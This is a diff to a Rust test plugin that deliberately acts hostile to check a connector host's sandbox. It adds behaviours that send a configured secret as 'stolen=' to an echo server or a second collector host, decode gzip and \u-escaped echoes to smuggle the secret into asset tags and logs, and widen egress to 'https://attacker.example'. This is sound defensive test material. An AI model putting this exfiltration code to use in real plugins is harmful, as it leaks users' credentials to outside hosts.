@@ -11,7 +11,16 @@
 //!   granted `target` (an echo server), and logs what came back (and prints a line
 //!   to stdout, which the host discards);
 //! - `filesystem`: reads and writes files; `sockets`: opens a TCP connection to
-//!   `target` directly; both report what happened as an error.
+//!   `target` directly; both report what happened as an error;
+//! - `echo-escapes`: has `target` echo its secret back gzip-compressed (asking with
+//!   `Accept-Encoding: gzip`) and as JSON with every character `\u`-escaped,
+//!   decodes both and writes them into an asset's tags and its log;
+//! - `derive-origin`: its `configure` returns an origin it never declared;
+//! - `unbound-origin`: sends its secret to `collector`, a declared origin the
+//!   secret is not bound to (it may go to `target` only).
+//!
+//! It declares `{target}` and `{collector}` as its egress, and binds `secret` to
+//! `{target}`.
 
 wit_bindgen::generate!({
     world: "connector-plugin",
@@ -24,7 +33,7 @@ use vulnbridge::connector::http::{self, Method, Request};
 use vulnbridge::connector::log::{log, Level};
 use vulnbridge::connector::output;
 use vulnbridge::connector::types::{
-    Asset, Check, ConfigField, FieldError, FieldKind, Locators, Page, PluginError, PluginInfo, Setting,
+    Asset, Check, ConfigField, Egress, FieldError, FieldKind, Locators, Page, PluginError, PluginInfo, Setting,
 };
 
 thread_local! {
@@ -43,7 +52,38 @@ fn field(key: &str, kind: FieldKind, default: Option<&str>) -> ConfigField {
         kind,
         required: false,
         default_value: default.map(Into::into),
+        sent_to: if kind == FieldKind::Secret { vec!["{target}".into()] } else { Vec::new() },
     }
+}
+
+fn send(
+    url: &str,
+    headers: Vec<(String, String)>,
+    body: String,
+) -> Result<vulnbridge::connector::http::Response, String> {
+    let request = Request {
+        method: Method::Post,
+        url: url.into(),
+        headers,
+        body: Some(body.into_bytes()),
+        timeout_ms: Some(5_000),
+    };
+    http::send(&request).map_err(|e| format!("{e:?}"))
+}
+
+/// Undoes JSON's `\uXXXX` escapes (all the echo sends), as a plugin that wanted the
+/// secret would.
+fn unescape(text: &str) -> String {
+    let mut out = String::new();
+    let mut rest = text;
+    while let Some(at) = rest.find("\\u") {
+        out.push_str(&rest[..at]);
+        let code = u32::from_str_radix(rest.get(at + 2..at + 6).unwrap_or("0"), 16).unwrap_or(63);
+        out.push(char::from_u32(code).unwrap_or('?'));
+        rest = rest.get(at + 6..).unwrap_or("");
+    }
+    out.push_str(rest);
+    out
 }
 
 fn post(url: &str, body: String) -> Result<Vec<u8>, String> {
@@ -71,12 +111,23 @@ impl Guest for Hostile {
                 field("behavior", FieldKind::Text, Some("panic")),
                 field("target", FieldKind::Host, Some("example.invalid")),
                 field("secret", FieldKind::Secret, None),
+                field("collector", FieldKind::Host, None),
+                field("note", FieldKind::Text, None),
             ],
+            egress: vec![
+                Egress { origin: "{target}".into(), purpose: "its API".into() },
+                Egress { origin: "{collector}".into(), purpose: "a second API".into() },
+            ],
+            independent_pages: false,
         }
     }
 
     fn configure(settings: Vec<Setting>) -> Result<Vec<String>, Vec<FieldError>> {
         SETTINGS.set(settings);
+        if setting("behavior") == "derive-origin" {
+            // Widening its egress after the operator reviewed it: refused.
+            return Ok(vec!["https://attacker.example".into()]);
+        }
         Ok(Vec::new())
     }
 
@@ -153,6 +204,50 @@ impl Guest for Hostile {
                 let address = target.trim_start_matches("http://").trim_end_matches('/').to_string();
                 let connect = std::net::TcpStream::connect(address.as_str()).map(|_| "connected");
                 Err(PluginError::Other(format!("sockets: connect to {address}: {connect:?}")))
+            }
+            "echo-escapes" => {
+                let secret = setting("secret");
+                let gzip = vec![("accept-encoding".to_string(), "gzip".to_string())];
+                let zipped = send(&format!("{target}/echo"), gzip, format!("stolen={secret}"))
+                    .map_err(|e| PluginError::Other(format!("echo failed: {e}")))?;
+                let compressed = zipped.headers.iter().any(|(k, v)| k == "content-encoding" && v.contains("gzip"));
+                let mut from_gzip = String::new();
+                if compressed {
+                    use std::io::Read;
+                    flate2::read::GzDecoder::new(&zipped.body[..]).read_to_string(&mut from_gzip).ok();
+                } else {
+                    from_gzip = String::from_utf8_lossy(&zipped.body).into_owned();
+                }
+                let escaped = send(&format!("{target}/echo-json"), Vec::new(), format!("stolen={secret}"))
+                    .map_err(|e| PluginError::Other(format!("echo failed: {e}")))?;
+                let from_json = unescape(&String::from_utf8_lossy(&escaped.body));
+                log(Level::Warn, &format!("decoded echoes: {from_gzip} / {from_json}"));
+                let asset = Asset {
+                    key: "echoed".into(),
+                    locators: Locators {
+                        external_id: Some("echoed".into()),
+                        hostname: Some(from_gzip.clone()),
+                        fqdn: None,
+                        netbios: None,
+                        ip_address: None,
+                        mac_address: None,
+                        url: None,
+                        application: None,
+                    },
+                    os: None,
+                    os_version: None,
+                    tags: vec![from_gzip, from_json, format!("raw {secret}")],
+                    last_seen: None,
+                };
+                output::emit_assets(&[asset]);
+                output::count(&format!("counted {}", setting("note")), 1);
+                Ok(None)
+            }
+            "unbound-origin" => {
+                let secret = setting("secret");
+                let collector = setting("collector");
+                let refused = send(&format!("{collector}/echo"), Vec::new(), format!("stolen={secret}")).unwrap_err();
+                Err(PluginError::Other(format!("collector refused: {refused}")))
             }
             other => Err(PluginError::Other(format!("unknown behavior `{other}`"))),
         }
